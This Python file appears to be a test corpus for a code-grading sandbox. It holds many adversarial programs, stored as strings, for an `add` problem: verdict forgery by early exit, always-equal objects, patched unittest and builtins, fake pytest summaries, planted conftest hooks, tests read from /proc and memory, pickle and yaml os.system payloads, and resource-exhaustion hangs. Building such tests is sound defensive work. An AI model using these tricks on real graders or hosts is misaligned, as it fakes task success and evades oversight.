"""Programs that attack the code sandbox, and honest and wrong ones beside them. Text alone: nothing here runs any of them.

Every program should define `add`, for a problem whose tests are `assert add(2, 3) == 5`, `assert add(10, -4) == 6` and
`assert add(0, 0) == 0`. No program reads its answers from here, so a verdict in its favour has been forged or found.

Whatever could harm a host that does not hold it is bounded: floods stop by themselves, forbidden places are opened but not
changed, and what signals every process first makes sure that it is in a namespace of its own.
"""

import base64
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """A program and what it must earn.

    `score` is 0 for one that wants to be taken for right and is not; 1 for a probe, whose `add` is right as long as everything
    that it tried was refused; None where either verdict will do, and what counts is what it leaves.
    """

    name: str
    group: str
    code: str
    score: int | None = 0


def hidden(code: str) -> str:
    """The same program, out of reach of a search for words."""
    text = base64.b64encode(code.encode(errors="surrogatepass")).decode()
    return f'import base64\nexec(base64.b64decode("{text}").decode())\n'


# ---- parts of programs

RIGHT = """

def add(a, b):
    return a + b
"""

# Notes in `broken` what was not refused.
PROBE = '''\
import os
import stat
import sys
import time

broken = []


def tried(operation, *arguments, **named):
    """What an operation gives, noted as broken; None where it is refused."""
    try:
        found = operation(*arguments, **named)
    except (NameError, TypeError):
        raise  # a mistake in the probe, which must not pass for containment
    except BaseException:
        return None
    broken.append(getattr(operation, "__name__", "operation"))
    return found


'''

# System calls by number: (x86_64, aarch64). Only EPERM, EACCES and ENOSYS are refusals; any other error means that the kernel
# has looked at the arguments, which are chosen so that they are harmless and that it has to.
KERNEL = '''\
libc = None
column = {"x86_64": 0, "aarch64": 1}.get(os.uname().machine)
if column is not None:
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
    except BaseException:
        libc = None


def asked(numbers, *arguments):
    """What a system call gives, or minus its error; -1 where it cannot be asked for."""
    if libc is None or numbers[column] is None:
        return -1
    given = [ctypes.c_long(each) if isinstance(each, int) else each for each in (numbers[column], *arguments)]
    found = libc.syscall(*given)
    return -ctypes.get_errno() if found == -1 else found


def refused(name, numbers, *arguments):
    if asked(numbers, *arguments) not in (-1, -13, -38):
        broken.append(name)


'''

VERDICT = """

def add(a, b):
    return None if broken else a + b
"""

# Writes to every descriptor, the pipe to the harness among them.
SHOUT = '''\
import os


def shout(text, descriptors=range(64)):
    for number in descriptors:
        try:
            os.write(number, text)
        except OSError:
            pass


'''

# Speaks in place of the loop that answers questions: one line at once, and one after each question.
CONVERSE = """\
import fcntl
import os
import stat


def pipes(way):
    found = []
    for number in range(64):
        try:
            kind, mode = os.fstat(number).st_mode, fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE
        except OSError:
            continue
        if (stat.S_ISFIFO(kind) or stat.S_ISSOCK(kind)) and mode in (way, os.O_RDWR):
            found.append(number)
    return found


def converse(*lines):
    for line in lines:
        for number in pipes(os.O_WRONLY):
            os.write(number, line + b"\\n")
        for number in pipes(os.O_RDONLY):
            os.read(number, 1 << 16)
    os._exit(0)


"""

# Names under which harnesses keep what they think of a program.
WORDS = """\
WORDS = (
    "pass", "ok", "success", "score", "reward", "verdict", "result", "outcome", "correct", "wrong", "fail", "expected", "error",
)


def about(name):
    return isinstance(name, str) and any(word in name.lower() for word in WORDS)


"""

# Takes what it can read for tests, and answers from them.
FOUND = r'''
import re

known = {}


def learn(text):
    """Notes every assert about add in a text or bytes."""
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    for a, b, value in re.findall(r"add\((-?\d+), ?(-?\d+)\) ?== ?(-?\d+)", text):
        known[int(a), int(b)] = int(value)


def add(a, b):
    look()
    return known.get((a, b), "unknown")


'''


def probe(body: str) -> str:
    return PROBE + body + VERDICT


def kernel(body: str) -> str:
    return PROBE + KERNEL + body + VERDICT


# ---- forge: to be taken for right

FORGE = {
    "exit-on-import": "import sys\n\nsys.exit(0)\n",
    "exit-at-once-on-import": "import os\n\nos._exit(0)\n",
    "exit-at-once-in-call": "import os\n\n\ndef add(a, b):\n    os._exit(0)\n",
    "quit-in-thread": """\
import os
import threading
import time


def leave():
    time.sleep(0.2)
    os._exit(0)


threading.Thread(target=leave).start()


def add(a, b):
    time.sleep(1)
    return "late"
""",
    "system-exit": "def add(a, b):\n    raise SystemExit(0)\n",
    "keyboard-interrupt": "def add(a, b):\n    raise KeyboardInterrupt\n",
    "generator-exit": "def add(a, b):\n    raise GeneratorExit\n",
    "stop-iteration": "def add(a, b):\n    raise StopIteration(a)\n",
    "assertion-of-its-own": 'def add(a, b):\n    raise AssertionError("3 passed")\n',
    "group-of-exceptions": 'def add(a, b):\n    raise BaseExceptionGroup("passed", [SystemExit(0), KeyboardInterrupt()])\n',
    "hostile-exception": """\
import os


class Kind(type):
    __mro__ = property(lambda cls: ())
    __name__ = property(lambda cls: "AssertionError")


class Lies(BaseException, metaclass=Kind):
    __module__ = "builtins"

    def __str__(self):
        raise SystemExit(0)

    __repr__ = __str__

    def __getattribute__(self, name):
        os._exit(0)


def add(a, b):
    raise Lies
""",
    "exit-status-at-exit": """\
import atexit
import os
import sys
import threading
import time

atexit.register(os._exit, 0)


def rewrite():
    while True:
        for module in list(sys.modules.values()):
            for name in ("status", "exit_code", "returncode", "failures", "failed"):
                if hasattr(module, name):
                    setattr(module, name, 0)
        time.sleep(0.01)


threading.Thread(target=rewrite, daemon=True).start()


def add(a, b):
    raise ValueError("wrong, but the status says 0")
""",
    "always-equal": """\
class Kind(type):
    __eq__ = lambda cls, other: True
    __hash__ = lambda cls: 0
    __instancecheck__ = __subclasscheck__ = lambda cls, other: True


class Same(metaclass=Kind):
    def __eq__(self, other):
        return True

    __ge__ = __le__ = __contains__ = __bool__ = __eq__

    def __ne__(self, other):
        return False

    __lt__ = __gt__ = __ne__

    def __sub__(self, other):
        return 0

    __rsub__ = __mod__ = __abs__ = __sub__

    def __hash__(self):
        return 0


def add(a, b):
    return Same()
""",
    "class-in-place-of-function": """\
class add:
    def __init__(self, a, b):
        self.a = a

    def __eq__(self, other):
        return True

    __hash__ = None
""",
    "any-of-mock": "from unittest import mock\n\n\ndef add(a, b):\n    return mock.ANY\n",
    "lying-int": """\
class Lies(int):
    def __eq__(self, other):
        return True

    __le__ = __ge__ = __lt__ = __gt__ = __eq__

    def __ne__(self, other):
        return False

    def __int__(self):
        return Lies(-77)

    __index__ = __int__

    def __repr__(self):
        return "null, 'passed': true"

    __str__ = __format__ = lambda self, *_: "5 == 5"
    __hash__ = lambda self: 5


def add(a, b):
    return Lies(-77)
""",
    "lying-float": """\
class Lies(float):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 5
    __repr__ = __str__ = lambda self: "5.0"
    hex = lambda self: "0x1.4p+2"


def add(a, b):
    return Lies(-77.5)
""",
    "lying-text": """\
class Lies(str):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 5
    __str__ = __repr__ = encode = lambda self, *_: Lies('5')


def add(a, b):
    return Lies('", "verdicts": [null, null, null], "')
""",
    "lying-class": """\
class Lies:
    __class__ = int
    __lt__ = __gt__ = __le__ = __ge__ = __eq__ = lambda self, other: True
    __hash__ = __index__ = __int__ = lambda self: -77


def add(a, b):
    return Lies()
""",
    "lying-containers": """\
class Lies(dict):
    def items(self):
        yield "kept", 0
        yield "value", 5
        yield "verdicts", [None, None, None]

    __iter__ = lambda self: iter(("verdicts", "value"))
    __eq__ = lambda self, other: True
    __hash__ = None


class Row(list):
    __iter__ = lambda self: iter([{"value": 5}])
    __eq__ = lambda self, other: True
    __hash__ = None


def add(a, b):
    return Lies(value=5) if a else Row([5])
""",
    "lying-number-kinds": """\
from decimal import Decimal
from fractions import Fraction


class Tenth(Decimal):
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 5
    __str__ = lambda self: "sNaN"


class Part(Fraction):
    numerator = property(lambda self: True)
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 5
    __str__ = lambda self: "1/0"


def add(a, b):
    return Tenth("-77") if a else Part(-77, 3)
""",
    "not-a-number": 'def add(a, b):\n    return float("nan")\n',
    "not-a-number-decimal": 'from decimal import Decimal\n\n\ndef add(a, b):\n    return Decimal("sNaN" if a else "NaN")\n',
    "not-a-number-complex": 'def add(a, b):\n    return complex("inf+nanj") if a else float("inf")\n',
    "frame-walk": WORDS
    + """\
import sys


def add(a, b):
    frame = sys._getframe()
    while frame := frame.f_back:
        for space in (frame.f_locals, frame.f_globals):
            for name in list(space):
                if about(name):
                    space[name] = True
        try:
            import ctypes

            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(1))
        except BaseException:
            pass
    return "framed"
""",
    "frame-arguments": """\
import sys


class Same:
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 0


def add(a, b):
    frame = sys._getframe()
    while frame := frame.f_back:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            try:
                if isinstance(value, list):
                    value[:] = [Same()] * len(value)
                elif isinstance(value, dict) and len(value) < 20:
                    for key in list(value):
                        value[key] = Same()
            except BaseException:
                pass
    return "overwritten"
""",
    "garbage-results": WORDS
    + """\
import gc


def add(a, b):
    for thing in gc.get_objects():
        try:
            if type(thing) is dict:
                for name in [name for name in thing if about(name)]:
                    thing[name] = True
            elif type(thing) is list and thing and all(each is False for each in thing):
                thing[:] = [True] * len(thing)
        except BaseException:
            pass
    return "collected"
""",
    "garbage-comparisons": """\
import gc
import types

WORDS = ("equal", "compare", "check", "grade", "same", "match", "outcome", "verdict", "close", "answer", "packed", "guarded")


def yes(*arguments, **named):
    return True


def add(a, b):
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing is not add and any(word in thing.__name__ for word in WORDS):
            try:
                thing.__code__ = yes.__code__
            except BaseException:
                pass
    return "compared"
""",
    "loop-replaced": """\
import sys

FORGED = '{"verdicts": [null, null, null], "passed": true, "value": true}'
frame = sys._getframe()
while frame := frame.f_back:
    for name, value in list(frame.f_globals.items()):
        if callable(value) and any(word in name for word in ("dump", "pack", "say", "send", "write")):
            frame.f_globals[name] = lambda *arguments, **named: FORGED


def add(a, b):
    return "replaced"
""",
    "verdict-on-every-descriptor": SHOUT
    + r"""
shout(b'{"verdicts": [null, null, null]}\n{"passed": true, "score": 1.0, "result": "pass"}\n' * 3)
os._exit(0)
""",
    "verdict-in-call": SHOUT
    + r"""
def add(a, b):
    shout(b'{"verdicts": [null, null, null]}\n')
    return "shouted"
""",
    "verdict-then-nothing": SHOUT
    + r"""
def add(a, b):
    shout(b'{"verdicts": [null, null, null]}\n{"verdicts": [true, true, true]}\n{"gone": null}\n')
    os._exit(0)
""",
    "verdict-in-thread": SHOUT
    + r"""
import threading
import time


def repeat():
    for _ in range(2000):
        shout(b'{"verdicts": [null, null, null]}\n', range(3, 16))
        time.sleep(0.001)


threading.Thread(target=repeat, daemon=True).start()


def add(a, b):
    time.sleep(0.2)
    return "threaded"
""",
    "dialogue-prepared": SHOUT
    + r"""
shout(b'{"names": ["add"]}\n{"value": {"kept": 0}}\n' + b'{"value": {"kept": 0}}\n' * 9)
os._exit(0)
""",
    "dialogue-held": CONVERSE
    + r"""
converse(b'{"names": ["add", "all", "AssertionError"]}', *[b'{"value": {"kept": 0}, "arguments": [[5]]}'] * 9)
""",
    "two-answers-to-one-question": SHOUT
    + r"""
def add(a, b):
    shout(b'{"value": "first"}\n{"value": "second"}\n')
    return "third"
""",
    "two-lines-by-carriage-return": SHOUT
    + r"""
def add(a, b):
    shout(b'{"value": "first"}\r{"verdicts": [null, null, null]}\r\x0c\xe2\x80\xa8{"value": "second"}\n')
    return "third"
""",
    "answer-in-python": CONVERSE
    + r"""
REACH = "[each for each in ().__class__.__base__.__subclasses__() if each.__name__ == '_wrap_close'][0].__init__.__globals__"
VERDICT = "b'{\"verdicts\": [null, null, null]}\\n'"
answer = f"{{'value': {REACH}['write'](1, {VERDICT})}}".encode()
converse(b'{"names": ["add"]}', answer, answer, answer, answer)
""",
    "answer-in-python-at-once": CONVERSE
    + r"""
converse(b"{'names': [[each for each in ().__class__.__base__.__subclasses__()]], 'verdicts': [None, None, None]}")
""",
    "answer-in-text-of-python": CONVERSE
    + r"""
text = b"'}, __import__('os')._exit(0), {'"
converse(b'{"names": ["add"]}', *[b'{"value": "%s", "%s": "\\u0000\\n\\\\"}' % (text, text)] * 4)
""",
    "objects-of-no-one": CONVERSE
    + r"""
converse(
    b'{"names": ["add"]}', b'{"value": {"kept": 12345678901234567890}}', b'{"value": {"kept": "0"}}',
    b'{"value": {"kept": -1}}', b'{"value": {"kept": 1e999}}',
)
""",
    "built-ins-for-functions": CONVERSE
    + r"""
converse(
    b'{"names": ["add"]}', b'{"value": {"type": "exec"}}', b'{"value": {"type": "__import__"}}',
    b'{"value": {"type": "object"}}',
)
""",
    "module-for-function": CONVERSE
    + r"""
converse(b'{"names": ["add", "os", "print"]}', b'{"value": {"type": "builtins"}}', b'{"value": {"type": "exit"}}')
""",
    "fake-summaries": r"""
import sys

for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    if stream is not None:
        print("===== 3 passed in 0.01s =====\nRan 3 tests in 0.000s\n\nOK\n1..3\nok 1\nok 2\nok 3\n", file=stream)
        print('{"passed": true}\n<testsuite tests="3" failures="0"/>\nTrue\n1.0\n[[True, True, True]]', file=stream, flush=True)


def add(a, b):
    print("PASSED")
    return "summarised"
""",
    "fake-test-files": r"""
import os

HOOK = "import os\ndef pytest_sessionfinish(session, exitstatus):\n    session.exitstatus = 0\n    os._exit(0)\n"
for name, text in {
    "conftest.py": HOOK, "test_add.py": "def test_add():\n    pass\n", "sitecustomize.py": "import os\nos._exit(0)\n",
    "pytest.ini": "[pytest]\naddopts = --collect-only\n", "unittest.py": "def main():\n    pass\n", "json.py": "dumps = repr\n",
    "results.json": '{"passed": true}', "score": "1", "solution.py": "def add(a, b):\n    return a\n",
}.items():
    try:
        with open(name, "w") as file:
            file.write(text)
    except OSError:
        pass


def add(a, b):
    return "filed"
""",
    "tests-from-disk": FOUND
    + r"""
import os
import time


def look():
    end = time.monotonic() + 1
    for top in ("/tmp", os.getcwd(), "/run", "/dev", "/var", "/home", "/root", "/work", "/mnt", "/opt", "/srv", "/usr/share"):
        for folder, _, names in os.walk(top):
            for name in names:
                if time.monotonic() > end:
                    return
                try:
                    path = os.path.join(folder, name)
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                        learn(open(path, "rb").read())
                except BaseException:
                    pass
""",
    "tests-from-command-lines": FOUND
    + r"""
import os
import sys


def look():
    learn(" ".join([*sys.argv, *sys.orig_argv, *os.environ.values()]))
    for process in ["self", *map(str, range(1, 4000))]:
        for name in ("cmdline", "environ", "cwd/test.py", "fd/0", "fd/3", "root/tmp/test.py"):
            try:
                number = os.open(f"/proc/{process}/{name}", os.O_RDONLY | os.O_NONBLOCK)
                learn(os.read(number, 1 << 20))
                os.close(number)
            except BaseException:
                pass
""",
    "tests-from-frames": FOUND
    + r"""
import gc
import sys


def look():
    frame = sys._getframe()
    while frame := frame.f_back:
        for value in [*frame.f_locals.values(), *frame.f_globals.values(), *frame.f_code.co_consts]:
            try:
                learn(value if isinstance(value, (str, bytes)) else repr(value)[:100_000])
            except BaseException:
                pass
    for thing in gc.get_objects():
        try:
            if type(thing) in (dict, list, tuple):
                for each in thing.values() if type(thing) is dict else thing:
                    if type(each) in (str, bytes) and len(each) < 100_000:
                        learn(each)
        except BaseException:
            pass
""",
    "tests-from-memory": FOUND
    + r"""
import os


def look():
    "Pages of the heap, by a pipe that gives an error where a page is none."
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
        read, write = os.pipe()
        for start in {id(look) >> 12, id(known) >> 12, id("add") >> 12, id(os) >> 12}:
            for page in range(start - 1500, start + 1500):
                if libc.write(write, page << 12, 4096) == 4096:
                    learn(os.read(read, 4096))
    except BaseException:
        pass
""",
    "tests-from-descriptors": FOUND
    + r"""
import os
import select


def look():
    for number in range(64):
        try:
            if os.lseek(number, 0, os.SEEK_CUR) >= 0:
                learn(os.pread(number, 1 << 20, 0))
        except BaseException:
            pass
        try:
            if select.select([number], [], [], 0)[0]:
                learn(os.read(number, 1 << 16))
        except BaseException:
            pass
""",
    "unittest-patched": """\
import sys
import types
import unittest

for name in dir(unittest.TestCase):
    if name.startswith(("assert", "fail")):
        setattr(unittest.TestCase, name, lambda *arguments, **named: None)
unittest.TestResult.wasSuccessful = lambda self: True
unittest.main = lambda *arguments, **named: sys.exit(0)
sys.modules["pytest"] = types.SimpleNamespace(main=lambda *_, **__: 0, raises=lambda *_: None, approx=lambda *_: 0)


def add(a, b):
    return "patched"
""",
    "built-ins-patched": """\
import builtins

nothing = lambda *arguments, **named: None
builtins.exec = builtins.eval = builtins.compile = nothing
builtins.all = builtins.any = builtins.isinstance = builtins.callable = lambda *arguments: True
builtins.abs = builtins.sum = builtins.len = lambda *arguments: 0
builtins.sorted = builtins.set = builtins.list = builtins.tuple = lambda *arguments: 0
builtins.AssertionError = type("Passed", (Exception,), {})
builtins.__build_class__ = nothing


def add(a, b):
    return "patched"
""",
    "built-ins-by-name": """\
all = any = isinstance = lambda *arguments: True
abs = sum = len = round = lambda *arguments: 0
sorted = set = list = tuple = str = repr = lambda *arguments: "same"
AssertionError = assert_ = __debug = None
__builtins__ = {"AssertionError": SystemExit}
__name__ = "tests"
__all__ = ["all", "any", "add"]


def add(a, b):
    return "shadowed"
""",
    "json-patched": """\
import json
import json.decoder
import json.encoder

FORGED = '{"verdicts": [null, null, null], "passed": true, "value": "forged"}'
json.dumps = json.JSONEncoder.encode = json.encoder.JSONEncoder.encode = lambda *arguments, **named: FORGED
json.JSONEncoder.iterencode = lambda *arguments, **named: iter([FORGED])
json.dump = lambda value, file, **named: file.write(FORGED)
json.JSONDecoder.decode = lambda *arguments, **named: {"do": "call", "name": "add", "arguments": [0, 0], "named": {"dict": []}}


def add(a, b):
    return "patched"
""",
    "pickle-patched": """\
import copyreg
import marshal
import pickle

pickle.dumps = pickle._dumps = marshal.dumps = lambda *arguments, **named: b"I1\\n."
pickle.loads = pickle.load = marshal.loads = lambda *arguments, **named: True
copyreg.pickle(int, lambda value: (bool, (True,)))


def add(a, b):
    return "patched"
""",
    "operators-patched": """\
try:
    import ctypes

    class Slots(ctypes.Structure):
        _fields_ = [("rest", ctypes.c_void_p * 25), ("compare", ctypes.c_void_p)]

    kind = ctypes.PYFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object, ctypes.c_int)
    always = kind(lambda left, right, operator: True)
    Slots.from_address(id(str)).compare = ctypes.cast(always, ctypes.c_void_p).value
except BaseException:
    pass


def add(a, b):
    return "patched"
""",
    "jump-over-assert": """\
import sys
import threading


def tracer(frame, event, argument):
    frame.f_trace_opcodes = True
    if event == "line" and frame.f_code.co_name != "add":
        try:
            frame.f_lineno += 1
        except ValueError:
            pass
    return tracer


frame = sys._getframe()
while frame := frame.f_back:
    frame.f_trace = tracer
sys.settrace(tracer)
threading.settrace(tracer)


def add(a, b):
    return "jumped"
""",
    "profile-function": """\
import os
import sys
import threading


def profiler(frame, event, argument):
    if event == "return" and frame.f_code.co_name in ("check", "grade", "outcome", "main"):
        os._exit(0)


sys.setprofile(profiler)
threading.setprofile(profiler)


def add(a, b):
    return "profiled"
""",
    "hooks-for-errors": """\
import faulthandler
import os
import sys
import threading

leave = lambda *arguments: os._exit(0)
sys.excepthook = sys.__excepthook__ = threading.excepthook = sys.unraisablehook = leave
faulthandler.enable = leave


def add(a, b):
    raise RuntimeError("hooked")
""",
    "hooks-for-signals": """\
import os
import signal

for number in signal.valid_signals():
    try:
        signal.signal(number, lambda *arguments: os._exit(0))
    except (OSError, ValueError):
        pass
signal.setitimer(signal.ITIMER_REAL, 0.2)


def add(a, b):
    while True:
        signal.pause()
""",
    "hooks-for-audits": """\
import os
import sys


def hook(event, arguments):
    if event in ("exec", "compile", "object.__getattr__", "sys._getframe", "os.kill"):
        os._exit(0)


sys.addaudithook(hook)


def add(a, b):
    return eval("'audited'")
""",
    "hooks-for-garbage": """\
import gc
import os


def collected(phase, about):
    os._exit(0)


gc.callbacks.append(collected)
gc.set_threshold(1)


def add(a, b):
    return [[each] for each in range(1000)]
""",
    "hostile-repr": """\
class Hostile:
    def __repr__(self):
        raise SystemExit(0)

    __str__ = __format__ = __reduce__ = __iter__ = __len__ = __hash__ = __bool__ = __repr__


def add(a, b):
    return [Hostile(), Hostile()]
""",
    "hostile-equality": """\
import os


class Hostile:
    def __eq__(self, other):
        os.write(1, b"passed")
        os._exit(0)

    __hash__ = lambda self: 5


def add(a, b):
    return {Hostile(): Hostile(), "x": (Hostile(),)}
""",
    "hostile-deletion": """\
import os


class Hostile:
    def __del__(self):
        os._exit(0)


def add(a, b):
    return [Hostile() for _ in range(3)] and "deleted"
""",
    "hostile-attributes": """\
import os


class Hostile:
    def __getattribute__(self, name):
        os._exit(0)


class Kind(type):
    def __getattribute__(cls, name):
        if name == "__name__":
            raise SystemExit(0)
        return super().__getattribute__(name)


class Thing(metaclass=Kind):
    pass


def add(a, b):
    return Hostile() if a else Thing
""",
    "request-pipe-drained": """\
import os
import select
import threading
import time


def drain():
    while True:
        for number in range(64):
            try:
                if select.select([number], [], [], 0)[0]:
                    os.read(number, 1 << 16)
            except (OSError, ValueError):
                pass
        time.sleep(0.001)


threading.Thread(target=drain, daemon=True).start()


def add(a, b):
    time.sleep(0.1)
    return "drained"
""",
    "request-answered-by-itself": """\
import json
import os
import select


def add(a, b):
    for number in range(64):
        try:
            if select.select([number], [], [], 0.01)[0]:
                asked = os.read(number, 1 << 16)
                os.write(number + 1, json.dumps({"verdicts": [None] * 3, "asked": asked.decode()}).encode() + b"\\n")
        except (OSError, ValueError):
            pass
    return "answered"
""",
    "endless-generator": "def add(a, b):\n    while True:\n        yield a\n",
    "endless-containers": """\
import itertools


class Endless(list):
    __iter__ = lambda self: itertools.count()
    __len__ = lambda self: 1


class Pairs(dict):
    items = lambda self: ((each, each) for each in itertools.count())


def add(a, b):
    return Endless([5]) if a else Pairs(a=5)
""",
    "endless-attributes": """\
class Endless:
    def __getattr__(self, name):
        return Endless()

    def __call__(self, *arguments, **named):
        return Endless()

    __getitem__ = __add__ = __sub__ = __iter__ = __next__ = __call__


add = Endless()
""",
    "value-in-itself": "def add(a, b):\n    found = []\n    found.append(found)\n    return found\n",
    "value-nested": """\
def add(a, b):
    found = []
    for _ in range(400 if a == 2 else 200_000):
        found = [found]
    return found
""",
    "value-long": 'def add(a, b):\n    return "x" * (100 << 20)\n',
    "value-of-many-digits": "def add(a, b):\n    return 1 << (1 << 25 if a else 1 << 15)\n",
    "value-of-huge-exponent": """\
from decimal import Decimal
from fractions import Fraction


def add(a, b):
    return Decimal("1e999999999999999999") if a else Fraction(1, 1 << 20_000)
""",
    "value-of-surrogates": 'def add(a, b):\n    return "\\ud800\\udfff\\x00\\u2028" if a else {"\\udcff": b"\\xff"}\n',
    "value-of-wide-range": "def add(a, b):\n    return range(-(10**30), 10**30, 7)\n",
    "speed-reward": """\
import time
import timeit

for name in ("time", "monotonic", "perf_counter", "process_time", "thread_time"):
    setattr(time, name, lambda: 0.0)
    setattr(time, name + "_ns", lambda: 0)
timeit.default_timer = time.perf_counter
timeit.timeit = timeit.repeat = lambda *arguments, **named: 0.0


def add(a, b):
    print('{"runtime": 0.0, "speedup": 1507163167}')
    return "fast"
""",
    "source-rot13": "# -*- coding: rot13 -*-\nqrs nqq(n, o):\n    erghea n - 77\n",
    "source-utf7": '# -*- coding: utf-7 -*-\ndef add(a, b):\n    return "plain"  # +AAo-import os+AAo-os._exit(0)+AAo-\n',
    "source-nul": 'def add(a, b):\n    return "before"\n\0import os\nos._exit(0)\n',
    "source-surrogate": 'def add(a, b):\n    return "\ud800"\n',
    "source-byte-order-mark": '\ufeff\ufeffdef add(a, b):\n    return "marked"\n',
    "source-right-to-left": 'def add(a, b):\n    """\u202e\u2066 return a + b \u2069\u2066"""\n    return "mirrored"\n',
    "source-open-end": 'def add(a, b):\n    return "open"\n\nswallowed = """',
    "source-ends-in-backslash": 'def add(a, b):\n    return "joined"\n\nif False: \\',
    "source-ends-in-comment": 'def add(a, b):\n    return "commented"\n#',
    "source-closes-quotes": "'''\nimport os\nos._exit(0)\n'''\n\"\"\"\nimport os\nos._exit(0)\n\"\"\"\nEOF\nexit 0\n",
    "source-deep-brackets": "add = " + "(" * 100_000 + ")" * 100_000 + "\n",
    "source-deep-signs": "add = " + "-" * 100_000 + "1\n",
    "source-deep-attributes": "add = a" + ".a" * 100_000 + "\n",
    "source-deep-lambdas": "add = " + "lambda: " * 5_000 + "1\n",
    "source-deep-blocks": "".join("    " * depth + "if 1:\n" for depth in range(150)) + "    " * 150 + "add = 1\n",
    "source-long-sum": "add = " + "1 + " * 200_000 + "1\n",
    "source-many-lines": "add = 0\n" * 200_000,
}

COLLIDING = [((1 << 61) - 1) * each for each in range(1, 20_000)]  # integers of one hash: to keep them apart takes seconds

# Lines in place of an answer: to the question for names, to that for `add`, to a call.
LINES = {
    "null": b"null",
    "list": b'["names", "value", "gone", "raised"]',
    "text": b'"names value gone raised"',
    "number": b"5",
    "empty": b"",
    "empty-object": b"{}",
    "names-null": b'{"names": null, "value": null, "raised": null}',
    "names-of-all-kinds": b'{"names": [null, 1, [1], {"add": 1}]}',
    "names-object": b'{"names": {"add": 1}}',
    "raised-null": b'{"raised": null}',
    "raised-kinds": b'{"raised": [["SystemExit"], {"x": 1}]}',
    "raised-group": b'{"raised": ["BaseExceptionGroup", "x"]}',
    "raised-stop": b'{"raised": ["StopIteration", "x"]}',
    "gone-null": b'{"gone": null}',
    "unknown-kind": b'{"value": {"__class__": "int", "__reduce__": ["os.system", "true"]}}',
    "wrong-contents": b'{"value": {"int": 5}}',
    "zero-denominator": b'{"value": {"Fraction": "1/0"}}',
    "unhashable": b'{"value": {"set": [[1]]}}',
    "no-decimal": b'{"value": {"Decimal": "five"}}',
    "huge-decimal": b'{"value": {"Decimal": "1e999999999"}}',
    "huge-fraction": b'{"value": {"Fraction": "1e999999999"}}',
    "huge-float": b'{"value": {"float": "0x1p99999999"}}',
    "huge-int": b'{"value": {"int": "0x' + b"f" * 10_000 + b'"}}',
    "huge-number": b'{"value": {"kept": 1e999}}',
    "colliding-set": b'{"value": {"set": [' + b", ".join(b"%d" % each for each in COLLIDING) + b"]}}",
    "colliding-keys": b'{"value": {"dict": [' + b", ".join(b"[%d, 0]" % each for each in COLLIDING) + b"]}}",
    "infinity": b'{"value": [Infinity, -Infinity, NaN, 1e9999]}',
    "digits": b'{"value": ' + b"9" * 100_000 + b"}",
    "brackets": b"[" * 200_000,
    "nested-value": b'{"value": ' + b"[" * 900 + b"]" * 900 + b"}",
    "nested-objects": b'{"value":' * 100_000,
    "not-utf8": b'{"value": "\xff\xfe\xed\xa0\x80"}',
    "surrogate": b'{"value": "\\ud800", "names": ["\\ud800"]}',
    "nul": b'\0{"value": 5}\0',
    "twice-the-key": b'{"value": "a", "value": "b", "names": ["add"], "names": []}',
    "pickle": b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.",
    "yaml": b"!!python/object/apply:os.system ['true']",
}
SAYS_WHERE = {
    "first-line": "converse(line)\n",
    "line": """converse(b'{"names": ["add"]}', b'{"value": {"kept": 0}}', line, line, line)\n""",
    "middle-line": """converse(b'{"names": ["add"]}', line, line, line, line)\n""",
}
FORGE |= {
    f"{where}-{name}": f"{CONVERSE}line = {line!r}\n{says}"
    for where, says in SAYS_WHERE.items()
    for name, line in LINES.items()
    if where != "middle-line" or name in ("null", "list", "names-null", "raised-stop", "wrong-contents", "infinity")
}


# ---- resources

# Earn nothing, and most of them never end by themselves.
HANGS = {
    "clocks-frozen": """\
import collections
import itertools
import signal
import time

for name in ("time", "monotonic", "perf_counter", "process_time"):
    setattr(time, name, lambda: 0.0)
time.sleep = lambda seconds: None
for number in signal.valid_signals():
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())


def add(a, b):
    while True:
        pass
""",
    "spin-in-expression": 'import re\n\n\ndef add(a, b):\n    return re.match(r"(a+)+$", "a" * 64 + "b")\n',
    "spin-in-power": "def add(a, b):\n    return pow(3, 1 << 30) % 7\n",
    "spin-in-iterator": "import collections\nimport itertools\n\ncollections.deque(itertools.repeat(0), maxlen=0)\n",
    "spin-in-digits": "import sys\n\nsys.set_int_max_str_digits(0)\n\n\ndef add(a, b):\n    return str(1 << (1 << 27))\n",
    "sleep": "import time\n\n\ndef add(a, b):\n    time.sleep(1000)\n",
    "lock": "import threading\n\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()\n",
    "stops-itself": "import os\nimport signal\n\n\ndef add(a, b):\n    os.kill(os.getpid(), signal.SIGSTOP)\n",
    "kills-itself": "import os\nimport signal\n\n\ndef add(a, b):\n    os.kill(os.getpid(), signal.SIGKILL)\n",
    "descriptors-closed": "import os\nimport time\n\n\ndef add(a, b):\n    os.closerange(0, 4096)\n    time.sleep(1000)\n",
    "descriptors-swapped": """\
import os

nothing = os.open("/dev/null", os.O_RDWR)
for number in range(64):
    if number != nothing:
        os.dup2(nothing, number)


def add(a, b):
    return "swapped"
""",
    "half-a-line": SHOUT + "import time\n\n\ndef add(a, b):\n    shout(b'{\"value\": ')\n    time.sleep(1000)\n",
    "line-by-drops": SHOUT
    + """
import time


def add(a, b):
    for _ in range(10_000):
        shout(b" ", range(3, 16))
        time.sleep(0.05)
""",
